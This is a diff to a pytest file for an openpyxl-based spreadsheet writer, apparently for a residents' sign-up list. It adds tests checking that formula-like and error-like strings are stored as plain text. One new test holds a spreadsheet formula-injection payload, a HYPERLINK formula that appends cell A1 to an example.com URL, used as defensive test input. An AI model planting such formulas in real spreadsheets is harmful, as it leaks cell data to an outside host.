@@ -30,7 +30,7 @@ def rows():
         [1, "官渡区文化馆", Decimal("8.0"), Decimal("7.5"), None],
         (2, "", Decimal("0.0"), 0.1, "   前后有空格  "),
         [3, "A & B < C > D", -1, 10**17, "第一行\r\n第二行\t制表"],
-        [4, None, math.nan, math.inf, "=SUM(A1:A3)"],  # a formula-like string: openpyxl's own path
+        [4, None, math.nan, math.inf, "=SUM(A1:A3)"],  # text that looks like a formula
         [5, "#N/A", Decimal("12.345678901234567"), 2.5, "末列"],
         [6, "日期", Decimal(1), 3, datetime(2026, 5, 10, 10, 30)],  # a date: openpyxl's own path
         [7, "多出的值", 1, 2, "x", "超出列数"],
@@ -81,8 +81,8 @@ def test_data_cells_carry_their_columns_number_formats():
     assert ws["B6"].value == "A & B < C > D"
     assert ws["E6"].value == "第一行\r\n第二行\t制表"
     assert ws["D6"].value == 10**17
-    assert ws["E7"].data_type == "f"
-    assert ws["B8"].data_type == "e"
+    assert (ws["E7"].value, ws["E7"].data_type) == ("=SUM(A1:A3)", "s")
+    assert (ws["B8"].value, ws["B8"].data_type) == ("#N/A", "s")
     assert ws["E9"].value == datetime(2026, 5, 10, 10, 30)
     assert ws["F10"].value == "超出列数"
     assert [c.value for c in ws[11][:3]] == [8, "生成器的行", 99.9]
@@ -116,3 +116,27 @@ def test_rendered_rows_read_back_as_openpyxls_own(monkeypatch):
 def test_a_control_character_is_refused_as_before(monkeypatch, raw):
     with pytest.raises(IllegalCharacterError):
         write([[1, "坏\x01字符", 1, 1, None]], monkeypatch, raw=raw)
+
+
+@pytest.mark.parametrize("raw", [True, False])
+def test_text_that_looks_like_a_formula_stays_text(monkeypatch, raw):
+    # A resident may type anything into a name; the sign-up list must not run it. The row with
+    # a date goes through openpyxl's own cell writer, the other is rendered.
+    evil = '=HYPERLINK("http://example.com/?"&A1,"点我")'
+    wb = write(
+        [
+            [1, evil, 1, 1, "#DIV/0!"],
+            [2, evil, 1, 1, datetime(2026, 5, 10, 10, 30)],
+            [3, "=", 1, 1, "+1"],
+        ],
+        monkeypatch,
+        raw=raw,
+    )
+    ws = wb["第一张"]
+    assert [(c.value, c.data_type) for c in (ws["B4"], ws["E4"], ws["B5"], ws["B6"])] == [
+        (evil, "s"),
+        ("#DIV/0!", "s"),
+        (evil, "s"),
+        ("=", "s"),
+    ]
+    assert ws["E5"].value == datetime(2026, 5, 10, 10, 30)
